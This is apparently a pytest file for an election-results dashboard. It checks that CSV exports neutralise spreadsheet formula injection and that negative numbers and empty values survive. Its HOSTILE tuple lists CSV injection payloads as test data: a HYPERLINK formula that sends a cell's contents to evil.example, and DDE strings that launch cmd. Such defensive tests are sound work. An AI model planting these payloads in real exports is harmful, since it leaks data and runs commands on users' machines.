"""CSV cells: bureau text never runs as a spreadsheet formula; numbers stay numbers
(issue 12, finding 5)."""

from __future__ import annotations

import csv
import io

import httpx

from dashboards import export
from server.spreadsheet import Sheet, cell, picture_csv
from tests.conftest import bureau, report
from tests.test_figures import fake_picture

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""OWASP's list: a cell starting with one of these runs as a formula."""
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_text_that_starts_like_a_formula_gets_a_leading_quote():
    for text in HOSTILE:
        assert cell(text) == "'" + text
    assert cell("Hà Nội") == "Hà Nội" and cell("a=b") == "a=b" and cell("") == ""


def test_numbers_stay_numbers_even_when_negative():
    assert cell(-2.5) == "-2.50" and cell(-3) == -3 and cell(0.0) == "0.00"
    sheet = Sheet()
    sheet.row(-2.5, -3, "-2.5")
    assert sheet.text() == "-2.50,-3,'-2.5\r\n"


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: they start with a formula character."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    return [c for row in rows for c in row if c.startswith(FORMULA_STARTS)]


async def test_bureau_text_in_the_phase_summary_csv_is_neutralised(server):
    async with bureau(server, await server.token("01")) as hn:
        await hn.send(report(voted=100_000, as_of="2021-05-23T09:00:00+07:00"))
        for text in HOSTILE:
            ack = await hn.send(report("note", text=text, as_of="2021-05-23T10:00:00+07:00"))
            assert ack["type"] == "ack", ack
        ack = await hn.send(report("revote", unit=HOSTILE[0], level="commune", reason="other"))
        assert ack["type"] == "ack", ack
    token = await server.token(role="editor")
    async with httpx.AsyncClient(
        base_url=server.http, headers={"authorization": f"Bearer {token}"}
    ) as c:
        summary = await c.get("/editor/summary.csv", params={"phase": 2})
        chart = await c.get("/charts/map.csv")
    assert summary.status_code == 200 and chart.status_code == 200
    assert formula_cells(summary.text) == []
    assert formula_cells(chart.text) == []
    cells = {c for row in csv.reader(io.StringIO(summary.text)) for c in row}
    for text in HOSTILE:
        assert "'" + text in cells, text  # kept whole, shown as text


def test_picture_csv_keeps_nulls_empty_and_ends_with_the_national_row():
    rows = list(csv.reader(io.StringIO(picture_csv(fake_picture(), "vi"))))
    assert rows[0] == list(export.CSV_FIELDS)
    assert len(rows) == 1 + 63 + 1
    hanoi = next(r for r in rows if r[0] == "01")
    assert hanoi[1] == "Hà Nội" and hanoi[2] == hanoi[4] == hanoi[5] == ""
    assert rows[-1][:2] == ["VN", "Cả nước"] and rows[-1][4] == "79.29"
